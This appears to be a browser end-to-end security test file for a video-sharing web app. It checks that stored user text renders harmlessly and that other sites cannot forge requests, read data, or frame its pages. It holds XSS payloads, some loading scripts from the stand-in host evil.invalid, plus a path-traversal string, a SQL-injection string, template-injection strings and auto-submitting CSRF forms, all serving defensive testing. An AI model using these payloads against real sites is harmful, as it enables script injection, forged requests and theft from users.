// What people write is text on every page that shows it; and pages of other sites can neither act for somebody nor frame us.
import assert from 'node:assert/strict';
import { createServer } from 'node:http';
import { createRequire } from 'node:module';
import { after, before, test } from 'node:test';

import { Person } from '../support/api.mjs';
import { desktop, launch, logIn, open } from '../support/browser.mjs';
import { clip } from '../support/clips.mjs';
import { startServer, until } from '../support/server.mjs';

/** Each ends in code that would tell of itself by `pwned`, or in a request to another host. */
const payloads = [
    `<script>pwned=1;alert(1)</script>`,
    `"><script src=//evil.invalid/x.js></script>`,
    `<img src=x onerror=pwned=1;alert(2)>`,
    `<svg/onload=pwned=1;alert(3)>`,
    `'"><iframe srcdoc="<script>parent.pwned=1</script>">`,
    `<a href="javascript:pwned=1">x</a><style>@import'//evil.invalid/x.css'</style>`,
    `javascript:pwned=1//"onmouseover=pwned=1 x="`,
    `{@html '<img src=//evil.invalid/x onerror=pwned=1>'}`,
];
/** Lines of the Big List of Naughty Strings that look dangerous, and some that break layouts and scripts. */
const naughty = createRequire(import.meta.url)('big-list-of-naughty-strings/blns.json');
const lines = [
    ...naughty.filter((line) => /onerror|onload|<script|javascript:|\$\{|\{\{/i.test(line) && line.length < 140).filter((_, n) => n % 12 === 0),
    ...naughty.filter((line) => /[\u202e\u0489\u200b]/u.test(line) && line.length < 140).slice(0, 2),
    '{{constructor.constructor("pwned=1")()}}', '${pwned=1}', '../../../../etc/passwd', "'; DROP TABLE users; --",
];
/** What makes a name: 3 to 40 characters. */
const names = ['<img src=x onerror=pwned=1>', '"><script>pwned=1</script>', '<svg/onload=pwned=1>'];

let server;
let browser;
let owner; // whose everything is
let guest; // her page
let page; // where the owner is logged in
const ids = [];
let thread;

before(async () => {
    server = await startServer();
    browser = await launch();
    owner = await new Person(server.url).join(names[0]);
    assert.equal((await owner.request('PATCH', '/api/v1/user/me', { json: { bio: payloads.join('\n'), contact: payloads[3] } })).status, 200);
    const file = await clip({ seconds: 2 });
    for (const [n, title] of payloads.entries()) {
        const description = `${payloads.slice(n).concat(payloads.slice(0, n)).join('\n')}\n#waves`;
        const answer = await owner.upload(file, { title, description, tags: ['<b>waves'.slice(3), 'waves'] });
        assert.equal(answer.status, 201, answer.text);
        await owner.processed(answer.body.data.id);
        ids.push(answer.body.data.id);
    }
    for (const [n, name] of names.entries()) {
        const other = await new Person(server.url).join(name);
        await other.put(`/api/v1/follows/${owner.id}`);
        await owner.put(`/api/v1/follows/${other.id}`);
        await other.put(`/api/v1/video/${ids[0]}/like`);
        for (const content of n === 0 ? [...payloads, ...lines] : payloads.slice(n, n + 2)) {
            const said = await other.post(`/api/v1/video/${ids[0]}/comments`, { json: { content } });
            assert.equal(said.status, 200, said.text);
            thread = said.body.data.id;
        }
    }
    for (const content of payloads) assert.equal((await owner.post(`/api/v1/comment/${thread}/replies`, { json: { content } })).status, 201);
    // Where somebody is logged in is said in the words of their browser.
    const device = Object.assign(new Person(server.url), { email: owner.email, password: owner.password });
    await device.post('/api/v1/auth/login', { json: { email: owner.email, password: owner.password }, headers: { 'user-agent': payloads[2] } });
    page = await watched();
    await logIn(page, owner);
    guest = await watched();
});
after(async () => {
    await browser?.close();
    await server?.stop();
});

/** A page that notes what must not happen: dialogs, loads from elsewhere, and what the policy had to stop. */
async function watched() {
    const made = await open(browser, server.url, desktop);
    made.faults = [];
    made.on('dialog', (dialog) => {
        made.faults.push(`a dialog: ${dialog.message()}`);
        void dialog.dismiss();
    });
    made.on('request', (request) => {
        const url = new URL(request.url());
        if (url.protocol.startsWith('http') && url.origin !== server.url) made.faults.push(`a request to ${url}`);
    });
    made.on('framenavigated', (frame) => {
        if (frame !== made.mainFrame()) made.faults.push(`a frame: ${frame.url()}`);
    });
    await made.exposeFunction('policyFault', (what) => made.faults.push(`stopped by the policy: ${what}`));
    await made.addInitScript(() => addEventListener('securitypolicyviolation', (event) => window.policyFault(`${event.violatedDirective} ${event.blockedURI}`)));
    return made;
}

/** Nothing of a text became an element, and nothing of it ran. */
async function unharmed(on, where) {
    // What was put into the page by mistake has had its turn then.
    await on.evaluate(() => new Promise((done) => requestAnimationFrame(() => setTimeout(done, 50))));
    const made = await on.evaluate(() => ({
        pwned: 'pwned' in window,
        elements: [...document.querySelectorAll('*')].filter((element) =>
            [...element.attributes].some(({ name, value }) => /^on/.test(name) || /^\s*javascript:/i.test(value) && /^(href|src|action|formaction)$/.test(name)) ||
            element.matches('iframe, object, embed, base, script:not([src]), img[src="x"], meta[http-equiv=refresh]')).map((element) => element.outerHTML.slice(0, 200)),
    }));
    assert.deepEqual(made, { pwned: false, elements: [] }, where);
    assert.deepEqual(on.faults, [], where);
}

const shown = (on, text) => until(async () => (await on.locator('body').innerText()).replace(/\s+/g, ' ').includes(text.replace(/\s+/g, ' ')), { what: `${text} to be shown as text at ${on.url()}` });

test('pages that everybody sees show it as text', async () => {
    for (const [path, texts] of [
        ['/', [payloads.at(-1), names[0]]],
        ['/trending', [names[0]]],
        ...ids.map((id, n) => [`/v/${id}`, [payloads[n], names[0]]]),
        [`/u/${owner.id}`, payloads.slice(0, 3)],
        [`/u/${owner.id}/followers`, names],
        [`/u/${owner.id}/following`, names],
        ['/search?tag=waves', []],
        [`/search?q=${encodeURIComponent('script')}`, [names[1]]],
        [`/search?q=${encodeURIComponent(payloads[2])}`, []],
        [`/search?tag=${encodeURIComponent('<img src=x onerror=pwned=1>')}`, []],
        [`/login?next=${encodeURIComponent('javascript:pwned=1')}`, []],
        [`/v/${encodeURIComponent(payloads[2])}`, []],
        [`/u/${encodeURIComponent(payloads[2])}`, []],
        [`/reset-password?token=${encodeURIComponent(payloads[0])}#token=${encodeURIComponent(payloads[0])}`, []],
    ]) {
        await guest.goto(path);
        await guest.locator('main *').first().waitFor();
        for (const text of texts) await shown(guest, text);
        await unharmed(guest, path);
    }
});

test('the comments below a clip, and their replies', async () => {
    await guest.goto(`/v/${ids[0]}?comments`);
    const sheet = guest.getByRole('dialog', { name: /comment/ });
    await sheet.getByRole('article').first().waitFor();
    await sheet.getByRole('button', { name: /^View \d+ repl/ }).first().click();
    for (const text of payloads) await shown(guest, text);
    const list = sheet.locator('.list');
    await until(async () => {
        await list.evaluate((element) => (element.scrollTop = element.scrollHeight));
        return (await sheet.getByRole('article').count()) >= payloads.length * 2 + lines.length;
    }, { what: 'all comments' });
    for (const text of lines.slice(-4)) await shown(guest, text);
    await unharmed(guest, 'comments');
});

test('suggestions while somebody types', async () => {
    await guest.goto('/search');
    await guest.getByRole('combobox', { name: 'Search' }).fill('img');
    await guest.getByRole('option').filter({ hasText: names[0] }).first().waitFor();
    await unharmed(guest, 'suggestions');
});

test('pages of whoever is logged in', async () => {
    for (const [path, texts] of [
        ['/notifications', [names[1]]],
        ['/me', payloads.slice(0, 3)],
        ['/statistics', [payloads[0]]],
        [`/v/${ids[2]}/statistics`, []],
        [`/v/${ids[2]}/edit`, []],
        ['/settings', []],
        ['/following', []],
        ['/upload', []],
    ]) {
        await page.goto(path);
        await page.locator('main h1, main h2, main article').first().waitFor();
        for (const text of texts) await shown(page, text);
        await unharmed(page, path);
    }
    await page.goto(`/v/${ids[2]}/edit`);
    await until(async () => (await page.getByLabel('Title').inputValue()) === payloads[2], { what: 'the title in its field' });
    await page.goto('/settings');
    await page.getByText('Where you are logged in').click();
    await shown(page, payloads[2]);
    await unharmed(page, 'devices');
});

test('what leads somewhere leads to our own pages only', async () => {
    await guest.goto(`/login?next=${encodeURIComponent('//evil.invalid/')}`);
    await guest.getByLabel('Email').fill(owner.email);
    await guest.getByLabel('Password', { exact: true }).fill(owner.password);
    await guest.getByRole('button', { name: 'Log in' }).click();
    await guest.waitForURL((url) => url.pathname === '/');
    assert.equal(new URL(guest.url()).origin, server.url);
    await unharmed(guest, 'after logging in');
});

/** A page of somebody else: at "localhost", which is another site than 127.0.0.1, or at another port of ours. */
async function attacker(html, host) {
    const other = createServer((_, answer) => answer.writeHead(200, { 'content-type': 'text/html' }).end(html));
    await new Promise((done) => other.listen(0, '127.0.0.1', done));
    return { url: `http://${host}:${other.address().port}/`, stop: () => new Promise((done) => { other.closeAllConnections(); other.close(done); }) };
}

const form = (action, type = 'application/x-www-form-urlencoded') =>
    `<form method=post action="${action}" enctype="${type}"><input name='{"a":"' value='"}'></form><script>document.forms[0].submit()</script>`;

for (const [host, status] of [['localhost', [400, 403]], ['127.0.0.1', [403]]]) {
    test(`a form on a page of another origin (${host}) neither logs out nor refreshes nor writes`, async () => {
        const tab = await page.context().newPage();
        const loggedIn = (await page.context().cookies()).find(({ name }) => name === 'refreshToken');
        assert.ok(loggedIn.httpOnly && loggedIn.sameSite === 'Lax' && loggedIn.path === '/api/v1/auth', JSON.stringify(loggedIn));
        for (const [route, expected] of [
            ['auth/logout', [...status, 200]], // Without the cookie there is nobody to log out.
            ['auth/refresh-token', status],
            [`video/${ids[0]}`, [401]],
            [`video/${ids[0]}/comments`, [401]],
            [`follows/unfollow/${owner.id}`, [401]],
            ['video/upload', [401]],
            ['upload/tus', [401]],
        ]) {
            for (const type of ['application/x-www-form-urlencoded', 'text/plain', 'multipart/form-data']) {
                const other = await attacker(form(`${server.url}/api/v1/${route}`, type), host);
                const answered = tab.waitForResponse((answer) => answer.url().startsWith(server.url) && answer.request().method() === 'POST');
                await tab.goto(other.url).catch(() => undefined); // The form goes on before the page is loaded.
                const answer = await answered;
                assert.ok(expected.includes(answer.status()), `${route} as ${type}: ${answer.status()}`);
                await other.stop();
            }
        }
        const [now] = (await page.context().cookies()).filter(({ name }) => name === 'refreshToken');
        assert.equal(now.value, loggedIn.value);
        await tab.close();
        await page.goto('/settings');
        await page.getByLabel('Name').waitFor(); // Still logged in.
    });
}

test('a script on a page of another site reads nothing of ours', async () => {
    const other = await attacker('<title>there</title>', 'localhost');
    const tab = await page.context().newPage();
    await tab.goto(other.url);
    const read = await tab.evaluate(async (url) => {
        const tries = { feed: ['/api/v1/video', {}], refresh: ['/api/v1/auth/refresh-token', { method: 'POST' }], page: ['/', {}] };
        const got = {};
        for (const [name, [path, init]] of Object.entries(tries))
            got[name] = await fetch(url + path, { credentials: 'include', ...init }).then((answer) => answer.status, () => 'refused');
        return got;
    }, server.url);
    assert.deepEqual(read, { feed: 'refused', refresh: 'refused', page: 'refused' });
    await tab.close();
    await other.stop();
});

test('no page of ours is shown inside a page of somebody else', async () => {
    for (const path of ['/', '/settings', `/v/${ids[0]}`, '/docs', '/api/v1/video', '/openapi.json']) {
        const other = await attacker(`<iframe src="${server.url}${path}" width=600 height=600></iframe>`, 'localhost');
        const tab = await page.context().newPage();
        const failed = tab.waitForEvent('requestfailed');
        await tab.goto(other.url);
        const { errorText } = (await failed).failure();
        assert.equal(errorText, 'net::ERR_BLOCKED_BY_RESPONSE', path);
        await tab.close();
        await other.stop();
    }
});

test('had a text become part of a page, this would have been seen', async () => {
    const harmed = await watched();
    await harmed.goto('/login');
    await harmed.evaluate((html) => (document.querySelector('main').innerHTML = html), payloads[2]);
    await assert.rejects(unharmed(harmed, 'an element'));
    await until(() => harmed.faults.some((fault) => /script-src/.test(fault)), { what: 'the word of the policy' });
    await harmed.evaluate(() => (document.querySelector('main').innerHTML = '<img src=//evil.invalid/x.png>'));
    await until(() => harmed.faults.some((fault) => /img-src/.test(fault)), { what: 'the load from elsewhere to be stopped' });
    await harmed.context().close();
});

test('no page complained', () => {
    for (const on of [page, guest]) {
        assert.deepEqual(on.faults, []);
        assert.deepEqual(on.complaints.filter((text) => !/status of 4\d\d/.test(text)), []);
    }
});
